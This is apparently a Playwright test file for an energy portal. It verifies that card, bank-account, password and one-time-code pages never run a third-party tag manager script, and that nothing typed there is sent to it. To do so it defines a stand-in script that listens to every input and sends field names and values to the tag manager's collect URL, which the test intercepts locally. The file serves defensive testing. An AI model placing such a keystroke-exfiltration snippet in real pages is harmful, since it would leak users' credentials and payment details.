import type { Page } from "@playwright/test";
import { TAG_MANAGER_FREE_PAGES } from "#app/lib/tag-manager-pages.ts";
import { baseURLOf, expect, specPortal, test } from "./fixtures.ts";
import { fillCard, VISA } from "./billing-helpers.ts";
import type { OwnPortal } from "./own-portal.ts";
import { fillDate, switchService } from "./portal-helpers.ts";
import { DEMO, type OutboxMessage, postAsPage } from "./support.ts";

/**
 * No third-party script beside a secret field (a card, a bank account, a password, a one-time code),
 * however the customer got there (docs/decisions/055): on the energy wholesaler's portal, whose
 * pages carry the tag manager, a customer who starts on a page with it and goes on by links and
 * buttons reaches every secret page in a document the tag manager never ran in. A stand-in for the
 * tag manager's script (page.route) marks the document it runs in and sends home every value typed.
 */

const TAG_MANAGER = "https://www.googletagmanager.com";

let portal: OwnPortal;
const own = specPortal({ WHOLESALER_CODE: "OE", WHOLESALER_NAME: "Acme Energy" });
test.use(baseURLOf(own));

test.beforeAll(async () => {
  test.setTimeout(60_000);
  portal = await own.get();
});

test.afterAll(() => own.stop());

test.beforeEach(async () => {
  expect((await fetch(`${portal.sandboxUrl}/__sandbox/reset`, { method: "POST" })).ok).toBe(true);
});

/** What a tag could do: mark its document, and send home each field's name and value as typed. */
const STAND_IN = `window.__standIn = true;
document.addEventListener("input", (event) => {
  const field = event.target;
  new Image().src = "${TAG_MANAGER}/collect?" + new URLSearchParams({ [field.name]: field.value });
}, true);`;

/** Serves the stand-in for the tag manager's script; returns what it sent home. */
async function standInForTheTagManager(page: Page) {
  const sent: string[] = [];
  await page.context().route(`${TAG_MANAGER}/**`, async (route) => {
    const url = new URL(route.request().url());
    if (url.pathname === "/collect") {
      sent.push(url.search);
      return route.fulfill({ status: 204 });
    }
    return route.fulfill({ contentType: "application/javascript", body: STAND_IN });
  });
  return sent;
}

/** The newest message of the channel in this portal's sandbox outbox. */
async function newestCode(channel: "sms" | "email", to?: string): Promise<string> {
  let code = "";
  await expect
    .poll(async () => {
      const messages = (await (await fetch(`${portal.sandboxUrl}/__sandbox/outbox`)).json()) as OutboxMessage[];
      code = messages.find((m) => m.channel === channel && m.code && (!to || m.to.includes(to)))?.code ?? "";
      return code;
    })
    .not.toBe("");
  return code;
}

/** Signs in and verifies over HTTP (the typed sign-in is auth.spec.ts's), then opens `path`. */
async function signIn(page: Page, path: string, email: string = DEMO.email) {
  const location = await postAsPage(page, "/login", { intent: "password", email, password: DEMO.password });
  expect(location).not.toMatch(/\/login/);
  const mfa = `/mfa?redirectTo=${encodeURIComponent(path)}`;
  await postAsPage(page, mfa, { intent: "send", channel: "email" });
  await postAsPage(page, mfa, { intent: "verify", code: await newestCode("email") });
  await page.goto(path);
}

/** The page's document ran the tag manager (the test starts where a customer would). */
async function expectTagManagerRan(page: Page) {
  await expect.poll(() => page.evaluate(() => (window as { __standIn?: boolean }).__standIn === true)).toBe(true);
}

/** Fields no third party may see, by what they are rather than by the page they are on. */
const SECRET_FIELDS =
  'input[type="password"], input[autocomplete^="cc-"], input[autocomplete="one-time-code"], input[name="accountNumber"], input[name="code"], input[name="idNumber"]';

/** No script from elsewhere ran in, or is in, this document, and the page has the secret field it is for. */
async function expectSecretPageAlone(page: Page, url: RegExp) {
  await expect(page).toHaveURL(url);
  await expect(page.locator(SECRET_FIELDS).first()).toBeVisible();
  const found = await page.evaluate(() => ({
    ran: (window as { __standIn?: boolean }).__standIn === true,
    scripts: [...document.scripts].map((s) => s.src).filter((src) => src && new URL(src).origin !== location.origin),
    tagManager: document.querySelectorAll("[data-tag-manager]").length,
  }));
  expect.soft(found, `no third-party script on ${page.url()}`).toEqual({ ran: false, scripts: [], tagManager: 0 });
}

/** What the stand-in sent home from secret fields (what was typed on ordinary pages may go). */
function expectNoSecretSent(sent: string[]) {
  const secrets = sent.filter((query) =>
    /[?&](nameOnCard|cardNumber|expiryMonth|expiryYear|securityCode|accountNumber|\w*[pP]assword|code|idNumber)=/.test(
      query,
    ),
  );
  expect(secrets, "nothing typed in a secret field reached the tag manager").toEqual([]);
}

test("from a page with the tag manager, by links and buttons, to every card and bank account page @js-only", async ({
  page,
}) => {
  test.setTimeout(120_000);
  const sent = await standInForTheTagManager(page);
  await signIn(page, "/home");
  await expectTagManagerRan(page);

  // Billing → Make a payment → the amount → the card (the reviewer's path).
  await page.getByRole("navigation").getByRole("link", { name: "Billing" }).click();
  await page.getByRole("link", { name: "Make a payment" }).click();
  await page.getByLabel("Amount to pay").fill("12.34");
  await page.getByRole("button", { name: "Continue" }).click();
  await expectSecretPageAlone(page, /\/billing\/pay\/card$/);
  await fillCard(page, VISA);

  // Straight from home's bill panel to the amount, then the card.
  await page.goto("/home");
  await expectTagManagerRan(page);
  await page.getByRole("link", { name: "Bills and payments" }).click();
  await page.getByRole("main").getByRole("link", { name: "Payment details" }).click();
  await page.getByRole("link", { name: "Pay by card" }).click();
  await expectSecretPageAlone(page, /\/billing\/payment-details\/card$/);
  await fillCard(page, VISA);
  await page.getByRole("button", { name: "Continue" }).click();
  await expectSecretPageAlone(page, /\/billing\/payment-details\/card\/confirm$/);
  await page.getByLabel("Current password").fill(DEMO.password);

  await page.goto("/home");
  await expectTagManagerRan(page);
  await page.getByRole("navigation").getByRole("link", { name: "Billing" }).click();
  await page.getByRole("main").getByRole("link", { name: "Payment details" }).click();
  await page.getByRole("link", { name: "Pay by direct debit" }).click();
  await expectSecretPageAlone(page, /\/billing\/payment-details\/direct-debit$/);
  await page.getByLabel("Account name").fill("Alex Citizen");
  await page.getByLabel("BSB").fill("062000");
  await page.getByLabel("Account number").fill("12345678");
  await page.getByLabel("I agree to the direct debit terms").check();
  await page.getByRole("button", { name: "Continue" }).click();
  await expectSecretPageAlone(page, /\/billing\/payment-details\/direct-debit\/confirm$/);
  await page.getByLabel("Confirm account number").fill("12345678");
  await page.getByLabel("Current password").fill(DEMO.password);

  // A document that began on a page free of the tag manager never starts it: home, then a card page again.
  await page.getByRole("navigation").getByRole("link", { name: "Home", exact: true }).click();
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  expect(await page.evaluate(() => (window as { __standIn?: boolean }).__standIn === true)).toBe(false);
  await page.getByRole("navigation").getByRole("link", { name: "Billing" }).click();
  await page.getByRole("link", { name: "Make a payment" }).click();
  await page.getByLabel("Amount to pay").fill("20.00");
  await page.getByRole("button", { name: "Continue" }).click();
  await expectSecretPageAlone(page, /\/billing\/pay\/card$/);
  await page.getByLabel("Card number").fill(VISA.number);

  expectNoSecretSent(sent);
});

test("from a page with the tag manager, by links and buttons, to every password page @js-only", async ({ page }) => {
  test.setTimeout(120_000);
  const sent = await standInForTheTagManager(page);
  await signIn(page, "/profile");
  await expectTagManagerRan(page);
  await page.getByRole("link", { name: "Edit profile" }).click();
  await expectSecretPageAlone(page, /\/profile\/edit$/);
  await page.getByLabel("Current password").fill(DEMO.password);

  await page.goto("/profile");
  await expectTagManagerRan(page);
  await page.getByRole("link", { name: "Change your password" }).click();
  await expectSecretPageAlone(page, /\/profile\/password$/);
  await page.getByLabel("Current password").fill(DEMO.password);

  // Cancelling a service asks for the password on its check page, after two posts from pages with the tag manager.
  await page.goto("/home");
  await expectTagManagerRan(page);
  await page.getByRole("link", { name: "Cancel this service" }).click();
  await page.getByRole("radio", { name: "I am moving house" }).check();
  await page.getByRole("button", { name: "Continue" }).click();
  await expect(page.getByRole("heading", { level: 1, name: "When should we cancel it?" })).toBeVisible();
  await expectTagManagerRan(page);
  await fillDate(page, "Cancellation date", new Date(Date.now() + 10 * 86_400_000).toISOString().slice(0, 10));
  await page.getByRole("button", { name: "Continue" }).click();
  await expectSecretPageAlone(page, /\/home\/cancel\/check$/);
  await page.getByLabel("Current password").fill(DEMO.password);

  expectNoSecretSent(sent);
});

test("from a page with the tag manager, by buttons, to the SIM activation's code pages @js-only", async ({ page }) => {
  test.setTimeout(120_000);
  const sent = await standInForTheTagManager(page);
  await signIn(page, "/home", "energy@example.com");
  await switchService(page, "M5002");
  await expectTagManagerRan(page);
  await page.getByRole("link", { name: "Activate your SIM" }).click();
  await page.getByLabel("SIM number").fill("8961 0123 4567 8901 232");
  await page.getByRole("button", { name: "Continue" }).click();
  await page.getByRole("radio", { name: "Yes, keep my number" }).check();
  await page.getByRole("button", { name: "Continue" }).click();
  await page.getByLabel("Mobile number").fill("0400 111 222");
  await page.getByRole("button", { name: "Send code" }).click();
  await expectSecretPageAlone(page, /\/activate-sim\/number-code$/);
  await page.getByLabel("Code").fill(await newestCode("sms", "0400111222"));
  await page.getByRole("button", { name: "Continue" }).click();
  await page.getByRole("button", { name: "Send code" }).click();
  await expectSecretPageAlone(page, /\/activate-sim\/email-code$/);
  await page.getByLabel("Code").fill(await newestCode("email", "energy@example.com"));
  await page.getByRole("button", { name: "Continue" }).click();
  await expectSecretPageAlone(page, /\/activate-sim\/identity$/);
  await page.getByLabel("Document number").fill("AB123456");
  expectNoSecretSent(sent);
});

test("without JavaScript: no page free of the tag manager carries it, nor allows its origin in the CSP", async ({
  page,
}) => {
  await signIn(page, "/home");
  const home = await page.request.get("/home");
  expect(await home.text(), "the control: /home carries the tag manager").toContain("data-tag-manager");
  expect(home.headers()["content-security-policy"]).toContain(TAG_MANAGER);
  for (const path of TAG_MANAGER_FREE_PAGES) {
    const answer = await page.request.get(path, { maxRedirects: 0, failOnStatusCode: false });
    expect(answer.headers()["content-security-policy"], path).not.toContain("googletagmanager");
    expect(await answer.text(), path).not.toContain("data-tag-manager");
  }
  // The pages with secret fields a customer reaches by a form, as they are drawn after it.
  await page.goto("/billing/pay");
  await page.getByLabel("Amount to pay").fill("12.34");
  await page.getByRole("button", { name: "Continue" }).click();
  await expect(page).toHaveURL(/\/billing\/pay\/card$/);
  for (const path of ["/billing/pay/card", "/profile/edit", "/profile/password"]) {
    const answer = await page.request.get(path, { maxRedirects: 0 });
    expect(await answer.text(), path).toMatch(/type="password"|autoComplete="cc-number"|autocomplete="cc-number"/);
    expect(answer.headers()["content-security-policy"], path).not.toContain("googletagmanager");
  }
});
